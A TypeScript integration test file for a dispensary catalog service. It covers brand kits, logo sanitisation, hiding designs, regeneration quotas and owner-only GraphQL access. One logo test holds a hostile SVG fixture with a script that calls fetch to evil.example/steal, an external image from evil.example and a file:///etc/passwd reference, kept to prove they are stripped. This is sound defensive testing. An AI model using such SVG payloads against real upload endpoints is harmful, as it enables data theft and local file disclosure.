import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { crc32 } from "node:zlib";
import { fromBinary } from "@bufbuild/protobuf";
import { OfflineCharges } from "@highcotton/billing";
import {
  type AuthUser,
  type Database,
  InProcessBus,
  LocalObjectStorage,
  loadBaseConfig,
  outbox,
  type RunningService,
  startService,
  TokenService,
} from "@highcotton/kit";
import { testDatabase, truncateTables } from "@highcotton/kit/testing";
import { DesignsGeneratedSchema, DesignVisibilityChangedSchema, EnvelopeSchema } from "@highcotton/proto";
import { eq } from "drizzle-orm";
import { pino } from "pino";
import sharp from "sharp";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { getBrandKit, saveBrandKit, uploadBrandLogo } from "../../src/application/brand-kit.ts";
import type { CatalogDeps } from "../../src/application/catalog-deps.ts";
import { setDesignHidden } from "../../src/application/design-visibility.ts";
import { GenerationWorker } from "../../src/application/generation-worker.ts";
import { listDesignPage } from "../../src/application/list-design-page.ts";
import { regenerateDesign, regenerationsUsed } from "../../src/application/regenerate-design.ts";
import { listStoreDesigns } from "../../src/application/store-designs.ts";
import { DESIGN_REGENERATIONS_PER_MONTH, LOGO_STORED_PX, messages } from "../../src/contract/index.ts";
import { designs, dispensaries } from "../../src/db/schema.ts";
import type { ArtworkRequest } from "../../src/generation/artwork.ts";
import { catalogService } from "../../src/service.ts";
import { PlainArtworkGenerator } from "../fixtures/plain-artwork-generator.ts";

const logger = pino({ level: "silent" });
const tokens = new TokenService({ algorithm: "HS256", secret: "o".repeat(32) });
const owner: AuthUser = { id: "5a0c6a0e-1f4b-4d7e-9a51-7c2b9e0f3d11", username: "rita", role: "dispensary", sessionId: "s-rita" };
const otherOwner: AuthUser = {
  id: "6b1d7b1f-2a5c-4e8f-8b62-8d3c0f1a4e22",
  username: "odin",
  role: "dispensary",
  sessionId: "s-odin",
};
const shopper: AuthUser = { id: "7c2e8c20-3b6d-4f90-9c73-9e4d1a2b5f33", username: "sol", role: "user", sessionId: "s-sol" };
const NOV_15 = new Date("2026-11-15T12:00:00Z");

/** A generator that remembers what it was asked to draw. */
class RecordingGenerator extends PlainArtworkGenerator {
  requests: ArtworkRequest[] = [];
  override create(request: ArtworkRequest) {
    this.requests.push(request);
    return super.create(request);
  }
}

/** A PNG with a tEXt chunk (a comment any editor may leave, or a camera's notes) right after its header. */
async function pngWithTextChunk(text: string): Promise<Buffer> {
  const png = await sharp({ create: { width: 300, height: 200, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } } })
    .composite([{ input: { create: { width: 100, height: 60, channels: 4, background: "#22aa44" } }, left: 50, top: 40 }])
    .png()
    .toBuffer();
  const data = Buffer.from(`Comment\u0000${text}`, "latin1");
  const type = Buffer.from("tEXt", "latin1");
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([type, data])));
  const afterHeader = 8 + 25; // signature, then IHDR (length, type, 13 bytes, crc)
  return Buffer.concat([png.subarray(0, afterHeader), length, type, data, crc, png.subarray(afterHeader)]);
}

const postgres = testDatabase("catalog_owner");

postgres.describe("owners' brand kits and designs", (open) => {
  let database: Database;
  let storageDir: string;
  let deps: CatalogDeps;
  let generator: RecordingGenerator;
  let now: Date;
  let service: RunningService;

  beforeAll(async () => {
    database = await open();
    storageDir = mkdtempSync(join(tmpdir(), "highcotton-owner-"));
    // The service's graph, on the same store; its own worker and jobs would race the tests'.
    service = await startService(
      { ...catalogService, build: (context) => ({ ...catalogService.build(context), workers: [], jobs: [] }) },
      {
        config: loadBaseConfig({}),
        logger,
        bus: new InProcessBus(),
        tokens,
        storage: new LocalObjectStorage(storageDir),
        database,
      },
    );
    return async () => {
      await service.stop();
      await database.close();
      rmSync(storageDir, { recursive: true, force: true });
    };
  });

  beforeEach(async () => {
    await truncateTables(database, ["dispensaries", "designs", "design_generation_jobs", "outbox", "inbox"]);
    generator = new RecordingGenerator();
    now = NOV_15;
    deps = {
      db: database.db,
      database,
      storage: new LocalObjectStorage(storageDir),
      generator,
      logger,
      publicUrl: () => "https://highcotton.example",
      now: () => now,
      charges: new OfflineCharges(database.db, () => now),
    };
  });

  async function openStore(user: AuthUser = owner, name = "Rita's Remedies") {
    const [store] = await database.db
      .insert(dispensaries)
      .values({ userId: user.id, name, address: "1 Main St", city: "Denver", state: "CO", zipCode: "80202", feeStatus: "paid" })
      .returning();
    if (!store) throw new Error("no store");
    return store;
  }
  /** Designs as the worker leaves them (their images do not matter to these rules). */
  async function storeDesigns(dispensaryId: string, count: number) {
    return database.db
      .insert(designs)
      .values(
        Array.from({ length: count }, (_, index) => ({
          dispensaryId,
          name: `Design ${index + 1}`,
          frontImageUrl: `https://img.example/${index}-front.webp`,
          thumbnailUrl: `https://img.example/${index}-thumb.webp`,
          printFileUrl: `https://img.example/${index}-print.png`,
          batch: "initial",
          slot: index + 1,
          createdAt: new Date(NOV_15.getTime() - (count - index) * 1000),
        })),
      )
      .returning();
  }
  const eventsOf = async <T extends typeof DesignVisibilityChangedSchema | typeof DesignsGeneratedSchema>(schema: T) => {
    const rows = await database.db.select().from(outbox).where(eq(outbox.eventType, schema.typeName)).orderBy(outbox.seq);
    return rows.map((row) => fromBinary(schema, fromBinary(EnvelopeSchema, row.envelope).payload));
  };

  describe("brand kit", () => {
    it("is saved and read by the owner only, colours lower-cased and slogans tidied", async () => {
      const store = await openStore();
      await openStore(otherOwner, "Odin's");
      const saved = await saveBrandKit(deps, owner, {
        dispensaryId: store.id,
        colors: ["#1A2B3C", "#ffcc00"],
        slogans: ["  Grown   in Denver ", "Since 2014!"],
      });
      expect(saved).toEqual({
        ok: true,
        value: { colors: ["#1a2b3c", "#ffcc00"], slogans: ["Grown in Denver", "Since 2014!"], logoUrl: null },
      });
      expect(await getBrandKit(deps, owner, store.id)).toEqual(saved);

      expect(await getBrandKit(deps, null, store.id)).toMatchObject({ ok: false, error: { code: "UNAUTHENTICATED" } });
      expect(await getBrandKit(deps, otherOwner, store.id)).toMatchObject({ ok: false, error: { code: "FORBIDDEN" } });
      expect(await saveBrandKit(deps, otherOwner, { dispensaryId: store.id, colors: [], slogans: [] })).toMatchObject({
        ok: false,
        error: { code: "FORBIDDEN" },
      });
      expect(await getBrandKit(deps, owner, "not-a-uuid")).toMatchObject({ ok: false, error: { code: "NOT_FOUND" } });
    });

    it.each([
      [{ colors: ["#000000", "#111111", "#222222", "#333333"], slogans: [] }, messages.tooManyColors],
      [{ colors: ["red"], slogans: [] }, messages.colorInvalid],
      [{ colors: [], slogans: ["a", "b", "c", "d"] }, messages.tooManySlogans],
      [{ colors: [], slogans: ["x".repeat(41)] }, messages.sloganTooLong],
      [{ colors: [], slogans: ["   "] }, messages.sloganRequired],
      [{ colors: [], slogans: ["Hi\u0000there"] }, messages.sloganCharacters],
      [{ colors: [], slogans: ["<script>"] }, messages.sloganCharacters],
      [{ colors: "#000000", slogans: [] }, messages.colorInvalid],
    ])("refuses %j with the rule's message", async (input, message) => {
      const store = await openStore();
      const saved = await saveBrandKit(deps, owner, { dispensaryId: store.id, ...input });
      expect(saved).toEqual({ ok: false, error: { code: "BAD_USER_INPUT", message } });
    });

    it("stores a PNG logo re-encoded: its text chunk gone, trimmed to what it shows", async () => {
      const store = await openStore();
      const upload = await pngWithTextChunk("shot at 39.7392 N, 104.9903 W");
      expect(upload.includes("tEXt")).toBe(true);
      const saved = await uploadBrandLogo(deps, owner, { dispensaryId: store.id, base64: upload.toString("base64") });
      if (!saved.ok) throw new Error(saved.error.message);
      const [row] = await database.db.select().from(dispensaries).where(eq(dispensaries.id, store.id));
      expect(saved.value.logoUrl).toBe(deps.storage.publicUrl(row?.logoKey ?? ""));
      const bytes = Buffer.from((await deps.storage.get(row?.logoKey ?? ""))?.body ?? new Uint8Array());
      expect(bytes.includes("tEXt")).toBe(false);
      expect(bytes.includes("39.7392")).toBe(false);
      expect(await sharp(bytes).metadata()).toMatchObject({ format: "png", width: 100, height: 60 });
    });

    it("rasterises an SVG logo to a PNG without running or fetching anything it names", async () => {
      const store = await openStore();
      const svg = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100">
  <script>fetch("https://evil.example/steal")</script>
  <image xlink:href="https://evil.example/pixel.png" x="0" y="0" width="200" height="100"/>
  <image href="file:///etc/passwd" x="0" y="0" width="200" height="100"/>
  <rect x="50" y="25" width="100" height="50" fill="#cc2200"/>
</svg>`;
      const saved = await uploadBrandLogo(deps, owner, { dispensaryId: store.id, base64: Buffer.from(svg).toString("base64") });
      if (!saved.ok) throw new Error(saved.error.message);
      const [row] = await database.db.select().from(dispensaries).where(eq(dispensaries.id, store.id));
      expect(row?.logoKey).toMatch(/^logos\/.+\.png$/);
      const stored = Buffer.from((await deps.storage.get(row?.logoKey ?? ""))?.body ?? new Uint8Array());
      expect(stored.includes("<svg")).toBe(false);
      expect(stored.includes("evil")).toBe(false);
      const metadata = await sharp(stored).metadata();
      // Drawn at the stored size (the SVG is 200 px wide, the rectangle half of it), then trimmed.
      expect(metadata).toMatchObject({ format: "png", width: LOGO_STORED_PX / 2, height: LOGO_STORED_PX / 4 });
      // Only the rectangle was drawn: every pixel left is its red.
      const { channels } = await sharp(stored).stats();
      expect(channels[0]?.min).toBe(0xcc);
      expect(channels[1]?.max).toBe(0x22);
    });

    it.each([
      ["a GIF", Buffer.from("GIF89a\u0001\u0000\u0001\u0000", "latin1"), messages.logoNotPngOrSvg],
      ["HTML", Buffer.from("<html><svg></svg></html>"), messages.logoNotPngOrSvg],
      [
        "an SVG with a DOCTYPE",
        Buffer.from('<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg"/>'),
        messages.logoNotPngOrSvg,
      ],
      [
        "an SVG of 10000 px",
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10000" height="10"><rect width="9" height="9"/></svg>'),
        messages.logoTooManyPixels,
      ],
      ["an empty SVG", Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"></svg>'), messages.logoEmpty],
      ["nothing", Buffer.alloc(0), messages.logoRequired],
    ])("refuses %s", async (_case, bytes, message) => {
      const store = await openStore();
      const saved = await uploadBrandLogo(deps, owner, { dispensaryId: store.id, base64: bytes.toString("base64") });
      expect(saved).toEqual({ ok: false, error: { code: "BAD_USER_INPUT", message } });
    });

    it("refuses a PNG larger than 4096 px a side before decoding it", async () => {
      const store = await openStore();
      const wide = await sharp({ create: { width: 5000, height: 2, channels: 3, background: "#000" } })
        .png()
        .toBuffer();
      const saved = await uploadBrandLogo(deps, owner, { dispensaryId: store.id, base64: wide.toString("base64") });
      expect(saved).toEqual({ ok: false, error: { code: "BAD_USER_INPUT", message: messages.logoTooManyPixels } });
    });
  });

  describe("hiding designs", () => {
    it("takes a design off the store page and the marketplace, keeps it on the dashboard, and tells commerce", async () => {
      const store = await openStore();
      const [first, second] = await storeDesigns(store.id, 2);
      if (!first || !second) throw new Error("no designs");
      const hidden = await setDesignHidden(deps, owner, { designId: first.id, hidden: true });
      expect(hidden).toMatchObject({ ok: true, value: { id: first.id, hidden: true } });
      // Asking again changes nothing and says nothing.
      await setDesignHidden(deps, owner, { designId: first.id, hidden: true });

      expect((await listStoreDesigns(deps, store.id)).map((d) => d.id)).toEqual([second.id]);
      const page = await listDesignPage(deps, {});
      expect(page.ok && page.value.designs.map((d) => d.id)).toEqual([second.id]);
      expect((await listStoreDesigns(deps, store.id, null, { withHidden: true })).map((d) => d.id)).toEqual([
        first.id,
        second.id,
      ]);
      expect(await eventsOf(DesignVisibilityChangedSchema)).toMatchObject([
        { designId: first.id, dispensaryId: store.id, hidden: true },
      ]);

      await setDesignHidden(deps, owner, { designId: first.id, hidden: false });
      expect((await listStoreDesigns(deps, store.id)).map((d) => d.id)).toEqual([first.id, second.id]);
      expect((await eventsOf(DesignVisibilityChangedSchema)).map((event) => event.hidden)).toEqual([true, false]);
    });

    it("is for the store's owner only", async () => {
      const store = await openStore();
      await openStore(otherOwner, "Odin's");
      const [design] = await storeDesigns(store.id, 1);
      if (!design) throw new Error("no design");
      const change = { designId: design.id, hidden: true };
      expect(await setDesignHidden(deps, null, change)).toMatchObject({ ok: false, error: { code: "UNAUTHENTICATED" } });
      expect(await setDesignHidden(deps, otherOwner, change)).toMatchObject({ ok: false, error: { code: "FORBIDDEN" } });
      expect(await setDesignHidden(deps, shopper, change)).toMatchObject({ ok: false, error: { code: "FORBIDDEN" } });
      expect(
        await setDesignHidden(deps, owner, { designId: "a6b0c1d2-0000-4000-8000-000000000000", hidden: true }),
      ).toMatchObject({ ok: false, error: { code: "NOT_FOUND" } });
      expect(await eventsOf(DesignVisibilityChangedSchema)).toEqual([]);
    });
  });

  describe("regenerating designs", () => {
    it("draws a new design for the slot with the brand kit, hides the old one and announces both", async () => {
      const store = await openStore();
      const logo = await pngWithTextChunk("logo");
      await saveBrandKit(deps, owner, { dispensaryId: store.id, colors: ["#123456"], slogans: ["Stay lifted"] });
      await uploadBrandLogo(deps, owner, { dispensaryId: store.id, base64: logo.toString("base64") });
      const [, old] = await storeDesigns(store.id, 3);
      if (!old) throw new Error("no design");

      const asked = await regenerateDesign(deps, owner, old.id);
      expect(asked).toMatchObject({ ok: true, value: { regenerationsLeft: DESIGN_REGENERATIONS_PER_MONTH - 1 } });
      await new GenerationWorker(deps, { retryBaseMs: 1 }).drain();

      const [request] = generator.requests;
      expect(request?.slot).toBe(old.slot);
      expect(request?.seed).not.toBe(`${store.id}:initial:${old.slot}`);
      expect(request?.brand?.kit).toMatchObject({ colors: ["#123456"], slogans: ["Stay lifted"] });
      expect(await sharp(Buffer.from(request?.brand?.kit?.logoPng ?? [])).metadata()).toMatchObject({ format: "png" });

      const [replaced] = await database.db.select().from(designs).where(eq(designs.id, old.id));
      expect(replaced).toMatchObject({ hidden: true, name: old.name, printFileUrl: old.printFileUrl });
      const visible = await listStoreDesigns(deps, store.id);
      expect(visible).toHaveLength(3);
      expect(visible.map((d) => d.id)).not.toContain(old.id);
      expect(visible.map((d) => d.id)).toContain(replaced?.replacedById);

      const [generated] = await eventsOf(DesignsGeneratedSchema);
      expect(generated?.designs.map((d) => d.designId)).toEqual([replaced?.replacedById]);
      expect(await eventsOf(DesignVisibilityChangedSchema)).toMatchObject([{ designId: old.id, hidden: true }]);

      expect(await regenerateDesign(deps, owner, old.id)).toMatchObject({
        ok: false,
        error: { code: "CONFLICT", message: messages.designAlreadyReplaced },
      });
    });

    it("allows exactly the month's allowance to 8 concurrent requests, and again next month", async () => {
      const store = await openStore();
      const made = await storeDesigns(store.id, 10);
      const results = await Promise.all(made.slice(0, 8).map((design) => regenerateDesign(deps, owner, design.id)));
      expect(results.filter((result) => result.ok)).toHaveLength(DESIGN_REGENERATIONS_PER_MONTH);
      const refused = results.filter((result) => !result.ok);
      expect(refused).toHaveLength(8 - DESIGN_REGENERATIONS_PER_MONTH);
      for (const result of refused) {
        expect(result).toMatchObject({ ok: false, error: { code: "TOO_MANY_REQUESTS", message: messages.regenerationsUsedUp } });
      }
      expect(await regenerationsUsed(database.db, store.id, now)).toBe(DESIGN_REGENERATIONS_PER_MONTH);

      now = new Date("2026-12-01T00:00:00Z");
      expect(await regenerationsUsed(database.db, store.id, now)).toBe(0);
      expect(await regenerateDesign(deps, owner, made[9]?.id ?? "")).toMatchObject({
        ok: true,
        value: { regenerationsLeft: DESIGN_REGENERATIONS_PER_MONTH - 1 },
      });
    });

    it("is for the store's owner only, and never for a store whose fee is due", async () => {
      const store = await openStore();
      await openStore(otherOwner, "Odin's");
      const [design] = await storeDesigns(store.id, 1);
      if (!design) throw new Error("no design");
      expect(await regenerateDesign(deps, null, design.id)).toMatchObject({ ok: false, error: { code: "UNAUTHENTICATED" } });
      expect(await regenerateDesign(deps, otherOwner, design.id)).toMatchObject({ ok: false, error: { code: "FORBIDDEN" } });
      await database.db.update(dispensaries).set({ feeStatus: "past_due" }).where(eq(dispensaries.id, store.id));
      expect(await regenerateDesign(deps, owner, design.id)).toMatchObject({ ok: false, error: { code: "PAYMENT_REQUIRED" } });
      expect(await regenerationsUsed(database.db, store.id, now)).toBe(0);
    });
  });

  describe("the owner's view in the graph", () => {
    const query = (text: string, variables: Record<string, unknown>, user?: AuthUser) =>
      service.subgraph.execute(
        { query: text, variables },
        new Map(user ? ([["authorization", `Bearer ${tokens.sign(user)}`]] as const) : []),
      );

    it("shows every design, the kit and the allowance to the owner only, and a hidden design by id to the owner only", async () => {
      const store = await openStore();
      const [hidden, shown] = await storeDesigns(store.id, 2);
      await setDesignHidden(deps, owner, { designId: hidden?.id ?? "", hidden: true });
      const text = `query ($id: ID!, $design: ID!) {
        dispensary(id: $id) { designCount designs { id } ownerDesigns { id hidden } regenerationsLeft brandKit { colors } }
        design(id: $design) { id }
      }`;
      const mine = await query(text, { id: store.id, design: hidden?.id }, owner);
      expect(mine.data).toEqual({
        dispensary: {
          designCount: 1,
          designs: [{ id: shown?.id }],
          ownerDesigns: [
            { id: hidden?.id, hidden: true },
            { id: shown?.id, hidden: false },
          ],
          regenerationsLeft: DESIGN_REGENERATIONS_PER_MONTH,
          brandKit: { colors: [] },
        },
        design: { id: hidden?.id },
      });
      for (const caller of [otherOwner, undefined]) {
        const theirs = await query(text, { id: store.id, design: hidden?.id }, caller);
        expect(theirs.data).toEqual({
          dispensary: {
            designCount: 1,
            designs: [{ id: shown?.id }],
            ownerDesigns: null,
            regenerationsLeft: null,
            brandKit: null,
          },
          design: null,
        });
      }
    });
  });
});
